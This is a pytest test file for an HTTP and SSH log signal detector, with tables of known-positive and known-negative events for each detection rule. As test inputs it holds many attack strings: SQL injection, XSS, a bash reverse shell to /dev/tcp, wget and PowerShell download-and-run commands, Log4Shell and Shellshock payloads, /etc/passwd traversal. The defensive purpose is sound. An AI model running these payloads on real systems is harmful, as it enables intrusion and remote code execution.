"""Per-record security signals: known positives and negatives per rule, configuration, privacy, properties."""

from __future__ import annotations

import dataclasses
import functools
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from transforms.decode import (
    MAX_DECODE_ROUNDS,
    encoding_evasion,
    full_decode,
    normalize_header,
    normalize_path,
    normalize_query,
)
from transforms.errors import ConfigError
from transforms.model import Event, EventKind, SshOutcome
from transforms.signals import RULES, SSH_EVENT_HINTS, Severity, Signal, SignalDetector, SignalParams

T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"


@pytest.fixture(scope="module")
def detect() -> SignalDetector:
    return SignalDetector.build(SignalParams())


def http(url: str | None = "/", **fields: Any) -> Event:
    """An access-log event with browser-like defaults; ``fields`` override them."""
    values: dict[str, Any] = {
        "method": "GET",
        "url": url,
        "http_version": "HTTP/1.1",
        "status": 200,
        "user_agent": BROWSER,
        "format": "apache_combined",
    }
    values.update(fields)
    return Event(kind=EventKind.HTTP, source_ip="203.0.113.7", time=T0, **values)


def ssh(outcome: SshOutcome, **fields: Any) -> Event:
    return Event(kind=EventKind.SSH, source_ip="198.51.100.4", time=T0, ssh_outcome=outcome, **fields)


def rules(signals: list[Signal]) -> set[str]:
    return {signal.rule for signal in signals}


# (event, rules that fire: exactly these). One comment per row says what it shows.
HTTP_CASES: list[tuple[Event, set[str]]] = [
    # -- benign traffic: nothing fires
    (http("/"), set()),  # the home page
    (http("/presentations/logstash-monitorama-2013/images/kibana-search.png"), set()),  # a static asset
    (http("/blog/tags/is%20it%20done%20yet"), set()),  # encoded spaces in a path
    (http("/search?q=o%27brien+%26+sons"), set()),  # an apostrophe and an encoded '&' in a search
    (http("/search?q=select+a+plan+from+our+offers"), set()),  # SQL words in plain English
    (http("/search?q=rock+%26+roll+%3B+more"), set()),  # '&' and ';' followed by English words
    (http("/scripts/?C=M;O=A"), set()),  # Apache directory-listing sort parameters use ';'
    (http("/login?next=https%3A%2F%2Fexample.org%2Faccount"), set()),  # a redirect target is not RFI
    (http("/misc/sample.log"), set()),  # a site that serves .log files on purpose
    (http("/files/dhcpd.conf"), set()),  # ... and .conf files
    (http("/wp-admin/", status=200), set()),  # a WordPress site's own admin answering 200
    (http("/blog/tags/sysadmin", status=404), set()),  # "admin" inside a word is no admin path
    (http("*", method="OPTIONS"), set()),  # "OPTIONS *" is a valid request target
    (http("/api/items/3", method="PATCH"), set()),  # PATCH is a standard method
    (http("/", http_version="HTTP/2.0"), set()),  # HTTP/2
    (http("/dashboard/", status=401, user=None), set()),  # a 401 challenge without credentials
    (http("/", user_agent=None, referrer=None), set()),  # no headers at all
    (http(None, method=None), set()),  # Apache "-" 408 preconnect: nothing requested
    (http("/", user_agent="Googlebot/2.1 (+http://www.google.com/bot.html)"), set()),  # a welcome crawler
    (http("/docs?q=%u0041"), set()),  # an IIS %u escape of a letter
    # -- http.auth_failure
    (http("/wp-login.php", method="POST", status=401), {"http.auth_failure"}),  # POST to a login answered 401
    (http("/api/orders", method="POST", status=403), {"http.auth_failure"}),  # any POST answered 403
    (http("/user/login?destination=/node", status=403), {"http.auth_failure"}),  # GET refused on a login path
    (http("/blog/wp-login.php", method="POST", status=200), {"http.auth_failure"}),  # WordPress' failed login
    (http("/dashboard/", status=401, user="alice"), {"http.auth_failure"}),  # basic auth with a wrong password
    (http("/login", method="POST", status=302), set()),  # a successful login redirects
    # -- http.sqli
    (http("/item?id=1%27%20or%20%271%27%3D%271"), {"http.sqli"}),  # ' or '1'='1
    (http("/item?id=-1+union+all+select+1,2,3--+-"), {"http.sqli"}),  # UNION-based
    (http("/item?id=1%2F**%2Funion%2F**%2Fselect%2F**%2F1"), {"http.sqli"}),  # comments as spaces
    (http("/item?id=1%2527%2520and%2520sleep%25285%2529"), {"http.sqli"}),  # double-encoded time-based
    (http("/item?id=1;DROP+TABLE+users"), {"http.sqli"}),  # stacked query
    (http("/item?id=1+AND+1%3D1"), {"http.sqli"}),  # numeric tautology
    (http("/item?id=admin%27--"), {"http.sqli"}),  # quote then comment
    (http("/item?name=x&id=information_schema.tables"), {"http.sqli"}),  # catalog probe (CrowdSec list)
    # -- http.xss
    (http("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), {"http.xss"}),  # script tag
    (http("/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"), {"http.xss"}),  # event handler
    (http("/go?u=javascript:alert(document.cookie)"), {"http.xss"}),  # javascript: URL
    (http("/%3Csvg/onload=alert(1)%3E"), {"http.xss"}),  # injection in the path
    (http("/p?x=&lt;script&gt;"), {"http.xss"}),  # entity-encoded tag in a raw query
    (http("/projects/xdotool%3E"), set()),  # a stray '>' is not XSS
    (http("/p?onload=1&x=2"), set()),  # a parameter named like a handler
    # -- http.cmdi
    (http("/ping?host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd"), {"http.cmdi", "http.path_traversal"}),  # ; cat
    (http("/ping?host=x%7Cid"), {"http.cmdi"}),  # | id
    (http("/ping?host=%24(whoami)"), {"http.cmdi"}),  # $(...) substitution
    (http("/ping?host=x%26%26wget+http://198.51.100.9/x.sh"), {"http.cmdi"}),  # && wget
    (http("/?s=index/think/app/invokefunction&function=call_user_func_array"), {"http.cmdi"}),  # ThinkPHP RCE
    # -- http.path_traversal
    (http("/static/..%2f..%2f..%2fetc%2fpasswd"), {"http.path_traversal"}),  # encoded ../
    (http("/cgi-bin/.%2e/.%2e/.%2e/bin/sh"), {"http.path_traversal"}),  # Apache CVE-2021-41773
    (
        http("/cgi-bin/%%32%65%%32%65/bin/sh"),
        {"http.path_traversal", "http.protocol_abuse"},
    ),  # CVE-2021-42013 nested encoding (a second layer over a dot is evasion too)
    (http("/download?file=..%5C..%5Cwindows%5Cwin.ini"), {"http.path_traversal"}),  # backslashes
    (http("/page?include=/etc/shadow"), {"http.path_traversal"}),  # absolute LFI
    (
        http("/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini"),
        {"http.path_traversal", "http.protocol_abuse"},
    ),  # overlong UTF-8 dots: a traversal, and an encoding no client writes
    (http("/index.php?page=php://filter/resource=index"), {"http.path_traversal"}),  # PHP wrapper
    (http("/docs/etc/passwords-help.html"), set()),  # an OS name must end at a component boundary
    # -- http.rfi
    (http("/index.php?n=http://evil.example/pizza.htm?"), {"http.rfi"}),  # trailing '?' cuts the suffix
    (http("/index.php?page=ftp://198.51.100.9/x"), {"http.rfi"}),  # ftp:// as a value
    (http("/i.php?mosConfig_absolute_path=http://evil.example/"), {"http.rfi"}),  # include-style name
    (http("/img?src=http://198.51.100.9/x.txt"), {"http.rfi"}),  # IP literal host
    # -- http.shellshock
    (
        http("/cgi-bin/status", user_agent="() { :; }; /bin/bash -c 'id'"),
        {"http.shellshock", "http.cmdi"},
    ),  # in the UA, and the command it runs
    (http("/", referrer="() { ignored; }; echo"), {"http.shellshock", "http.cmdi"}),  # in the referrer, "; echo"
    # -- http.jndi
    (http("/", user_agent="${jndi:ldap://198.51.100.9/a}"), {"http.jndi"}),  # Log4Shell in the UA
    (http("/?x=%24%7B%24%7Blower:j%7Dndi:ldap://h/a%7D"), {"http.jndi"}),  # obfuscated, encoded, in the URL
    # -- http.sensitive_file
    (http("/.env"), {"http.sensitive_file"}),  # dotenv
    (http("/app/.git/HEAD"), {"http.sensitive_file"}),  # a folder anywhere in the path
    (http("/wp-config.php.bak"), {"http.sensitive_file"}),  # a config backup (prefix entry)
    (http("/backup/db.sql.gz"), {"http.sensitive_file"}),  # a database dump (suffix entry)
    (http("/home/.ssh/id_rsa"), {"http.sensitive_file"}),  # a private key
    (http("/.%65nv"), {"http.sensitive_file"}),  # encoded letters are decoded first
    (http("/environment/"), set()),  # a word that starts like .env
    # -- http.webshell
    (http("/wp-content/uploads/c99.php"), {"http.webshell"}),  # a known web shell name
    (http("/r57.php", status=404), {"http.webshell"}),  # probing for it
    (http("/music.php"), set()),  # whole-name match: not "c.php"
    # -- http.admin_probe (403/404 or unknown status only)
    (http("//phpMyAdmin/scripts/setup.php", status=404), {"http.admin_probe"}),  # doubled slash, mixed case
    (http("/administrator/index.php", status=404), {"http.admin_probe"}),  # Joomla probe on a non-Joomla site
    (http("/dbconsole/", status=403), {"http.admin_probe"}),  # an exact technology path
    (http("/manager/html", status=None), {"http.admin_probe"}),  # status unknown
    (http("/+CSCOE+/logon.html", status=404), {"http.admin_probe"}),  # '+' is literal in a path
    # -- http.scanner_ua / http.bad_bot_ua
    (http("/", user_agent="sqlmap/1.7.2#stable (https://sqlmap.org)"), {"http.scanner_ua"}),  # sqlmap
    (http("/", user_agent="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"), {"http.scanner_ua"}),  # nikto
    (http("/", user_agent="Mozilla/5.0 zgrab/0.x"), {"http.scanner_ua"}),  # zgrab
    (http("/", user_agent="Mozilla/5.0 (compatible; MJ12bot/v1.4.4)"), {"http.bad_bot_ua"}),  # SEO crawler
    (http("/", user_agent="Sogou web spider/4.0"), {"http.bad_bot_ua"}),  # multi-word name
    (http("/", user_agent="Mozilla/5.0 (compatible; Ezoomsbot)"), set()),  # whole words only
    (http("/", user_agent="Mozilla/5.0 (Linux; Android 5.1; OPPO A33)"), set()),  # a phone, cut from the list
    # -- http.protocol_abuse
    (http("foo.com:25", method="CONNECT", status=400), {"http.protocol_abuse"}),  # CONNECT tunnel
    (http("http://198.51.100.9/ip4.php", status=400), {"http.protocol_abuse"}),  # absolute-URI proxy probe
    (http("/", method="TRACE"), {"http.protocol_abuse"}),  # TRACE
    (http("/", method="PROPFIND"), {"http.protocol_abuse"}),  # WebDAV
    (http("/", http_version="HTTP/1.2", status=400), {"http.protocol_abuse"}),  # invalid version
    (http("\\x16\\x03\\x01", method=None, extra={"request": "malformed"}), {"http.protocol_abuse"}),  # TLS bytes
    (http(None, method=None, status=400), {"http.protocol_abuse"}),  # nginx "" 400
    (http("index.php", method="GET"), {"http.protocol_abuse"}),  # target without a leading '/'
    # -- header rules: traversal / OS files and commands in the decoded user agent and referrer
    (http("/get", user_agent="cat /etc/passwd"), {"http.path_traversal"}),  # an OS file as the UA
    (http("/get", user_agent="/proc/self/environ"), {"http.path_traversal"}),  # ... without a command
    (http("/", referrer="http://x.example/?f=../../../../etc/shadow"), {"http.path_traversal"}),  # referrer
    (http("/", referrer="http://x.example/%2e%2e%2f%2e%2e%2fwin.ini"), {"http.path_traversal"}),  # decoded first
    (http("/get", user_agent=";chmod +x evil.php"), {"http.cmdi"}),  # a command with an argument ('+' kept)
    (http("/get", user_agent="env --version"), {"http.cmdi"}),  # a UA that opens with a command and an option
    (http("/", referrer="http://x.example/?q=1;wget+http://198.51.100.9/x.sh"), {"http.cmdi"}),  # in a referrer
    (http("/", user_agent='/bin/bash -c "sh -i>& /dev/tcp/172.17.0.1/4444 0>&1"'), {"http.cmdi"}),  # reverse shell
    (http("/", user_agent="Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119"), set()),  # 'id' =
    # Indonesian: a comment token, not a command
    (http("/", user_agent="Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF)"), set()),  # Pashto
    (http("/", user_agent="Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux)"), set()),  # a tool
    (http("/", user_agent="curl/7.81.0"), set()),  # a command's own user agent is no command line
    (http("/", user_agent="Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)"), set()),  # ';' in comments
    (
        http("/", referrer="http://www.google.fr/url?sa=t&rct=j&q=&esrc=s&cd=5&url=http%3A%2F%2Fx.example%2Fa.pdf"),
        set(),
    ),  # a search engine's redirect referrer: '&', '%', ':' and '/' everywhere
    (http("/", referrer="http://x.example/projects/+++Result:+chosen+nickname+%22ab%22;sent;"), set()),  # spam
    (http("/", referrer="http://images.google.com/images?q=http://%60www.google.com/"), set()),  # a lone backtick
    # -- header rules: XSS tags and quoted event handlers in the user agent and referrer
    (http("/", referrer="http://x.example/?q=<script>alert(1)</script>"), {"http.xss"}),  # a tag in the referrer
    (http("/", referrer='https://evil.example/" onmouseover=alert(document.cookie) "'), {"http.xss"}),  # handler
    (http("/", referrer="http://x.example/?q=&lt;script+&gt;alert(1)"), {"http.xss"}),  # an entity-encoded tag
    (http("/", user_agent="Mozilla/5.0 (Windows NT 10.0) <img onclick=alert(1)>"), {"http.xss"}),  # tag in a UA
    (http("/", user_agent="Test/1.0 (compatible; onload=alert(document.domain))"), {"http.xss"}),  # handler in a UA
    (http("/", referrer="https://example.com/page?version=1.0&action=view&onboarding=1"), set()),  # "on..." names
    # -- http.crlf: CR/LF in the path, a parameter name, or before a header line
    (http("/?lang=foobar%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK"), {"http.crlf"}),  # splitting
    (http("/%0d%0aSet-Cookie:a=b"), {"http.crlf"}),  # in the path
    (http("/get?parameter%0d%0a=test"), {"http.crlf"}),  # in a parameter name
    (http("/r?to=%0ALocation:%20http://evil.example/"), {"http.crlf"}),  # a one-word header name
    (
        http("/p?nombre=any%250D%250ASet-cookie%253A%2BTamper%253D576"),
        {"http.crlf", "http.protocol_abuse"},
    ),  # CSIC's double-encoded Set-Cookie injection
    (http("/contact?msg=Hello%0D%0AThanks%3A+see+you"), set()),  # a textarea sent by GET: a newline is text
    # -- http.protocol_abuse: NUL, encodings no client writes
    (http("/download?file=report.pdf%00.jpg"), {"http.protocol_abuse"}),  # a NUL byte
    (http("/?param=%c0%af"), {"http.protocol_abuse"}),  # overlong '/'
    (http("/?param=%F5%80%BF%BF"), {"http.protocol_abuse"}),  # a code point above U+10FFFF
    (http("/?p=%2573%256F%256D%2565"), {"http.protocol_abuse"}),  # letters encoded twice
    (http("/vaciar.jsp?B2=Vaciar+carrito%257C"), {"http.protocol_abuse"}),  # '|' encoded twice
    (http("/x?a=%25252e"), {"http.protocol_abuse"}),  # three layers
    (http("/go?next=%2Fsearch%3Fq%3Da%2520b%253F"), set()),  # a URL nested in a parameter: %2520, %253F are fine
    (http("/buscar?q=A%F1adir+al+carrito"), set()),  # a Latin-1 form: a lone high byte is no UTF-8 abuse
    # -- http.oversized_field: longer than the 8,192-character window; head and tail are still matched
    (http("/search?q=" + "a" * 10_240 + "&id=1%27+or+%271%27%3D%271"), {"http.sqli", "http.oversized_field"}),
    (http("/" + "a" * 10_240 + "/../../etc/passwd"), {"http.path_traversal", "http.oversized_field"}),
    (http("/x?" + "p=1&" * 3_000 + "f=../../../etc/passwd"), {"http.path_traversal", "http.oversized_field"}),
    (http("/", user_agent=BROWSER + " " * 10_240 + "() { :; }"), {"http.shellshock", "http.oversized_field"}),
    (http("/", referrer="https://a.example/?" + "b" * 10_240), {"http.oversized_field"}),  # padding alone
    (http("/a?q=" + "b" * 8_000, referrer="https://a.example/" + "c" * 8_000), set()),  # long, but in the window
    # -- http.sensitive_file: backup copies, sources, config dumps
    (http("/index.php~"), {"http.sensitive_file"}),  # an editor's backup copy
    (http("/tienda1/publico/~"), {"http.sensitive_file"}),  # the bare '~' probe
    (http("/tienda1/publico/caracteristicas.jsp.java"), {"http.sensitive_file"}),  # source of a JSP
    (http("/_vti_pvt/service.cnf"), {"http.sensitive_file"}),  # FrontPage / MySQL config
    (http("/backup/site.bkp"), {"http.sensitive_file"}),  # a backup
    (http("/~psionic/projects/securitrack/config.xsl"), set()),  # a UserDir path is no backup copy
    (http("/files/xdotool.c"), set()),  # a site that serves C sources (the elastic log's does)
    # -- http.sqli: '+' read as a space in the path
    (http("/item/1+union+all+select+1,2,3--"), {"http.sqli"}),  # a form-encoded payload in the path
    (http("/tags/c++/select+a+plan"), set()),  # '+' in a path, SQL words, no SQL
    # -- PHP code (http.cmdi), XML declarations (no XSS)
    (http("/get?foo=%3C%3Fphp%20echo%20%22test%22"), {"http.cmdi"}),  # <?php
    (http("/get?code=%3C%3F%3D%24_GET%5B%27data%27%5D%3F%3E"), {"http.cmdi"}),  # <?= short echo
    (http("/get?foo=%3C%3F%20php%20echo%20%22test%22"), {"http.cmdi"}),  # <? php with a space
    (http("/get?%3C%3Fphp=value"), set()),  # a parameter named "<?php" carries no code
    (http("/get?data=%5BPHP%5Dsystem%28%27whoami%27%29%3B%5B%2FPHP%5D"), {"http.cmdi"}),  # [php] blocks
    (http("/get?foo=%7Bphp%7Dtest%7B%2Fphp%7D"), {"http.cmdi"}),  # Smarty {php}
    (http("/get?x=%3C%3Fxml%20%3Aecho%201%3B"), {"http.cmdi"}),  # "<?xml" carrying code
    (http("/api?doc=%3C%3Fxml%20version%3D%221.0%22%20standalone%3D%22yes%22%3F%3E"), set()),  # an XML declaration
    (http("/get?data=%3C%3Fxml-stylesheet%20type%3D%22text%2Fxsl%22%20href%3D%22s.xsl%22%3F%3E"), set()),  # a PI
    (http("/s?q=%3C%3Fimport+namespace%3Dt"), {"http.xss"}),  # IE's <?import stays XSS
    # -- PowerShell verbs and glob spellings of paths
    (http("/get?cmd=%3Biwr%20http://example.com/path/file.ps1"), {"http.cmdi"}),  # ;iwr
    (http("/get?x=Invoke-WebRequest%20http://example.com/path/file.ps1"), {"http.cmdi"}),  # the full cmdlet
    (http("/get?x=iex(New-Object+Net.WebClient).DownloadString(%27http://x/a%27)"), {"http.cmdi"}),  # iex(...)
    (http("/search?q=iex+stock+exchange"), set()),  # "IEX" the exchange: no bracket, option or URL after it
    (http("/get?s=/etc/pas[s]wd"), {"http.path_traversal"}),  # a bracket expression
    (http("/get?cmd=cat%20/%5B%3F%5Dtc/pa%5B%3F%5Dswd"), {"http.path_traversal"}),  # /[?]tc/pa[?]swd
    (http("/get?s=/etc/%5Bm-z%5Dasswd"), {"http.path_traversal"}),  # a range
    (http("/get?s=;/bin/ca?+/et*/passwd"), {"http.path_traversal", "http.cmdi"}),  # '?' and '*'
    (http("/get?exec=/bi%5Bn%5D/bash"), {"http.cmdi"}),  # a shell's path
    (http("/get?s=/usr/bin/%5Bu%5Dname+-a"), {"http.cmdi"}),  # a command's path
    (http("/item?id=1%2F**%2Fand%2F**%2Fname"), set()),  # "/**/" is a SQL comment, not a glob
    (http("/go?next=/account/settings%3Ftab%3D1"), set()),  # a '?' in a nested path
    (http("/api/v1/*/items"), set()),  # a '*' in a REST path
    # -- http.jndi: nested default-value obfuscations; http.rfi: IPv6 hosts
    (http("/", user_agent="${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.9/a}"), {"http.jndi"}),  # ${j${...
    (http("/?x=%24%7Bjnd%24%7Bupper:i%7D:ldap://h/a%7D"), {"http.jndi"}),  # ${jnd${upper:i}
    (http("/", referrer="${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://h/a}"), {"http.jndi"}),  # ${${env:..:-j}
    (http("/", user_agent="${:-j}${:-n}di"), {"http.jndi"}),  # ${:-j}
    (http("/tpl?x=${a}${b}"), set()),  # two lookups side by side are a template, not a nesting
    (http("/ajax?src=https://[2001:db8:701:1100::29c8]/gecko.php"), {"http.rfi"}),  # bracketed IPv6 host
    (http("/ajax?src=https://2001:db8:701:1100::29c8/gecko.php"), {"http.rfi"}),  # bare IPv6 host
    (http("/login?next=https://example.org:8443/a"), set()),  # a host with a port is no IPv6 literal
    # -- false positives fixed: a documentation path, backticks as quotes
    (http("/get/javascript-manual/document.cookie"), set()),  # a page about document.cookie
    (http("/search?q=x%60+or+y%3Dz"), set()),  # a backtick quotes identifiers and code, never an SQL string
    (http("/search?q=use+%60%23include+guards"), set()),  # ... so "`#" is no quote-then-comment
    (http("/x?a=%60id%60"), {"http.cmdi"}),  # backticks around a command stay command substitution
    # -- several rules at once, each once
    (
        http("/../../etc/passwd", user_agent="Nikto"),
        {"http.path_traversal", "http.scanner_ua"},
    ),  # traversal from a scanner
]


@pytest.mark.parametrize(("event", "expected"), HTTP_CASES)
def test_http_rules_fire_exactly_as_listed(detect: SignalDetector, event: Event, expected: set[str]) -> None:
    """Each known positive fires its rule and nothing else; each known negative fires nothing."""
    assert rules(detect(event)) == expected


SSH_CASES: list[tuple[Event, set[str]]] = [
    (ssh(SshOutcome.FAILED, ssh_method="password"), {"ssh.auth_failed"}),  # "Failed password for root"
    (ssh(SshOutcome.FAILED, ssh_method="publickey"), set()),  # a client trying its keys one after the other
    (ssh(SshOutcome.FAILED, ssh_method="publickey", invalid_user=True), {"ssh.invalid_user"}),  # ... for no one
    (ssh(SshOutcome.FAILED, ssh_method="keyboard-interactive"), {"ssh.auth_failed"}),  # a password by PAM
    (ssh(SshOutcome.FAILED, invalid_user=True), {"ssh.auth_failed", "ssh.invalid_user"}),  # ... for invalid user
    (ssh(SshOutcome.AUTH_FAILURE), {"ssh.auth_failed"}),  # pam_unix authentication failure
    (ssh(SshOutcome.INVALID_USER), {"ssh.invalid_user"}),  # "Invalid user admin from"
    (ssh(SshOutcome.ACCEPTED, ssh_method="publickey"), set()),  # a login is not a signal
    (ssh(SshOutcome.DISCONNECT), set()),  # a plain disconnect
    (ssh(SshOutcome.OTHER), set()),  # an unclassified line
    (ssh(SshOutcome.OTHER, extra={"ssh_event": "no_ident"}), {"ssh.preauth_probe"}),  # no identification string
    (ssh(SshOutcome.OTHER, extra={"ssh_event": "kex_failed"}), {"ssh.preauth_probe"}),  # no common cipher
    (ssh(SshOutcome.OTHER, extra={"ssh_event": "break_in"}), set()),  # POSSIBLE BREAK-IN: a DNS matter, no signal
    (ssh(SshOutcome.OTHER, extra={"ssh_event": "not_allowed"}), {"ssh.auth_failed"}),  # not in AllowUsers
    (
        ssh(SshOutcome.DISCONNECT, extra={"ssh_event": "too_many_auth"}, invalid_user=True),
        {"ssh.auth_failed", "ssh.invalid_user"},
    ),  # too many failures for an invalid user
    (ssh(SshOutcome.OTHER, extra={"ssh_event": "unheard-of"}), set()),  # an unknown hint is ignored
]


@pytest.mark.parametrize(("event", "expected"), SSH_CASES)
def test_ssh_rules_fire_exactly_as_listed(detect: SignalDetector, event: Event, expected: set[str]) -> None:
    """sshd outcomes and parser hints map to their rules; an accepted login fires nothing."""
    assert rules(detect(event)) == expected


def test_every_ssh_hint_names_a_registered_rule() -> None:
    """The hint table only points at rules of the registry."""
    assert set(SSH_EVENT_HINTS.values()) <= set(RULES)


def test_every_rule_has_a_known_positive() -> None:
    """The tables above exercise every registered rule at least once."""
    fired = set().union(*(expected for _, expected in HTTP_CASES + SSH_CASES))
    assert fired == set(RULES)


def test_signals_come_in_registry_order_without_duplicates(detect: SignalDetector) -> None:
    """Several rules on one event each appear once, in registry order."""
    event = http(
        "/cgi-bin/../../etc/passwd?q=%27+or+1%3D1--",
        user_agent="() { :; }; sqlmap",
        method="TRACE",
        status=404,
    )
    fired = [signal.rule for signal in detect(event)]
    assert fired == [rule for rule in RULES if rule in fired]
    assert len(fired) == len(set(fired)) >= 4


def test_docstring_examples_hold() -> None:
    """The known-answer examples in the docstrings of the detector and the decoder are true."""
    import doctest

    import transforms.decode
    import transforms.signals

    for module in (transforms.signals, transforms.decode):
        result = doctest.testmod(module)
        assert result.attempted > 0
        assert result.failed == 0


# --------------------------------------------------------------------------------------------- privacy


def test_a_signal_carries_only_rule_metadata() -> None:
    """A Signal has no field that could hold request data."""
    assert [field.name for field in dataclasses.fields(Signal)] == ["rule", "category", "severity", "technique"]


def test_signals_are_the_registry_instances(detect: SignalDetector) -> None:
    """What the detector returns is one of the prebuilt registry objects, so nothing from the event flows in."""
    registry = {id(signal) for signal in RULES.values()}
    for event, _ in HTTP_CASES + SSH_CASES:
        assert all(id(signal) in registry for signal in detect(event))


def test_registry_metadata_is_well_formed() -> None:
    """Rule ids are namespaced, severities are Severity members, techniques look like ATT&CK ids."""
    for rule, signal in RULES.items():
        assert signal.rule == rule
        assert rule.split(".")[0] in {"http", "ssh"}
        assert isinstance(signal.severity, Severity)
        assert signal.technique is None or signal.technique.startswith("T1")


# --------------------------------------------------------------------------------------------- config


def test_enabled_rules_limits_what_runs() -> None:
    """Only the enabled rules fire, and rule_ids lists them in registry order."""
    detector = SignalDetector.build(SignalParams(enabled_rules=["http.scanner_ua", "ssh.auth_failed"]))
    assert detector.rule_ids == ("ssh.auth_failed", "http.scanner_ua")
    assert rules(detector(http("/../etc/passwd", user_agent="nikto"))) == {"http.scanner_ua"}
    assert rules(detector(ssh(SshOutcome.FAILED, invalid_user=True))) == {"ssh.auth_failed"}


def test_no_enabled_rules_means_no_signals() -> None:
    """An empty rule list is valid and fires nothing."""
    detector = SignalDetector.build(SignalParams(enabled_rules=[]))
    assert detector(http("/.env", user_agent="sqlmap")) == []


def test_unknown_rule_is_a_config_error_listing_the_valid_ones() -> None:
    """An unknown rule id stops start-up; the message names it and every valid id."""
    with pytest.raises(ConfigError, match=r"http\.sqly") as caught:
        SignalDetector.build(SignalParams(enabled_rules=["http.sqly"]))
    assert all(rule in str(caught.value) for rule in RULES)


def test_unknown_setting_is_rejected() -> None:
    """The settings model forbids unknown keys and is frozen."""
    with pytest.raises(ValueError, match="extra"):
        SignalParams(patterns_directory="x")  # type: ignore[call-arg]
    params = SignalParams()
    with pytest.raises(ValueError, match="frozen"):
        params.patterns_dir = "x"  # type: ignore[misc]


@pytest.mark.parametrize(
    "auth_paths",
    [
        ["login"],  # no leading slash
        ["/"],  # the root would make every 401/403 a login failure
    ],
)
def test_bad_auth_path_is_a_config_error(auth_paths: list[str]) -> None:
    """auth_paths entries must be non-empty paths."""
    with pytest.raises(ConfigError, match="auth_paths"):
        SignalDetector.build(SignalParams(auth_paths=auth_paths))


def test_custom_auth_paths_replace_the_defaults() -> None:
    """A site-specific login path is used instead of the defaults."""
    detector = SignalDetector.build(SignalParams(auth_paths=["/portal/enter"], enabled_rules=["http.auth_failure"]))
    assert rules(detector(http("/portal/enter", status=403))) == {"http.auth_failure"}
    assert rules(detector(http("/login", status=403))) == set()


def test_missing_patterns_dir_is_a_config_error(tmp_path: Path) -> None:
    """A patterns_dir that does not exist stops start-up."""
    with pytest.raises(ConfigError, match="patterns_dir"):
        SignalDetector.build(SignalParams(patterns_dir=str(tmp_path / "nope")))


def test_missing_pattern_file_is_named(tmp_path: Path) -> None:
    """A missing file is named; a disabled rule's file is not needed."""
    with pytest.raises(ConfigError, match=r"webshells\.txt"):
        SignalDetector.build(SignalParams(patterns_dir=str(tmp_path), enabled_rules=["http.webshell"]))
    # protocol_abuse needs no file at all
    SignalDetector.build(SignalParams(patterns_dir=str(tmp_path), enabled_rules=["http.protocol_abuse"]))


def test_empty_pattern_file_is_a_config_error(tmp_path: Path) -> None:
    """A file with only comments is a mistake, not an empty rule."""
    (tmp_path / "webshells.txt").write_text("# nothing here\n\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"webshells\.txt has no entries"):
        SignalDetector.build(SignalParams(patterns_dir=str(tmp_path), enabled_rules=["http.webshell"]))


def test_invalid_regex_is_a_config_error_with_its_line(tmp_path: Path) -> None:
    """A bad regular expression is reported with its file and line number."""
    (tmp_path / "xss.regex.txt").write_text("# header\n<script\n(unclosed\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"xss\.regex\.txt line 3"):
        SignalDetector.build(SignalParams(patterns_dir=str(tmp_path), enabled_rules=["http.xss"]))


def test_custom_pattern_file_is_used(tmp_path: Path) -> None:
    """patterns_dir replaces the packaged lists."""
    (tmp_path / "webshells.txt").write_text("# mine\nMyShell.php\n", encoding="utf-8")
    detector = SignalDetector.build(SignalParams(patterns_dir=str(tmp_path), enabled_rules=["http.webshell"]))
    assert rules(detector(http("/x/myshell.php"))) == {"http.webshell"}
    assert rules(detector(http("/c99.php"))) == set()


# --------------------------------------------------------------------------------------------- decoding

# (input, normalize_path, normalize_query). Known answers of the canonical forms the rules match on.
DECODE_CASES = [
    ("%252e%252e%252f", "../", "../"),  # double encoding, fully undone
    ("/A//B/./c", "/a/b/c", "/a//b/./c"),  # paths collapse, queries keep their slashes
    ("a+b%2Bc", "a+b+c", "a b c"),  # '+' is a space only in a query (and %2B decodes to '+' then ' ')
    ("..%5c..%5cwin.ini", "../../win.ini", "../../win.ini"),  # backslashes read as slashes
    ("%c0%ae%c0%ae/", "../", "../"),  # overlong UTF-8 dots
    ("%u002e%U002E/", "../", "../"),  # IIS %u escapes, either case
    ("%ff%zz%", "\ufffd%zz%", "\ufffd%zz%"),  # a stray byte and broken escapes never raise
]


@pytest.mark.parametrize(("raw", "path", "query"), DECODE_CASES)
def test_decoding_known_answers(raw: str, path: str, query: str) -> None:
    """The canonical forms of a few tricky spellings."""
    assert normalize_path(raw) == path
    assert normalize_query(raw) == query


# (raw path or query, whether it hides characters behind an encoding no client writes)
EVASION_CASES = [
    ("/a%252e%252e/", True),  # a second layer over a dot
    ("q=%253Cscript", True),  # ... over a '<'
    ("q=%2527", False),  # ... but not over a quote: a nested URL may escape it (PHP urlencode does)
    ("x=%2500", True),  # ... over a NUL
    ("%%32%65", True),  # hex digits encoded inside an escape (CVE-2021-42013)
    ("%25%37%33", True),  # an escape spelled with escapes (CRS 920230)
    ("a=%25252f", True),  # a third layer, whatever the character
    ("%c0%af", True),  # overlong '/'
    ("%e0%80%ae", True),  # overlong '.', three bytes
    ("%ed%a0%80", True),  # a UTF-16 surrogate
    ("%F5%80%BF%BF", True),  # above U+10FFFF
    ("next=%2Fsearch%3Fq%3Da%2520b", False),  # a URL nested in a value: space and delimiters twice
    ("url=http%253A%252F%252Fx.example%252F", False),  # ... its ':' and '/'
    ("q=%25C3%25A9", False),  # ... its UTF-8 bytes
    ("q=A%F1adir", False),  # Latin-1 'ñ': a lone high byte
    ("q=%ed%e8%ea", False),  # cp1251 text: lead bytes without continuation bytes
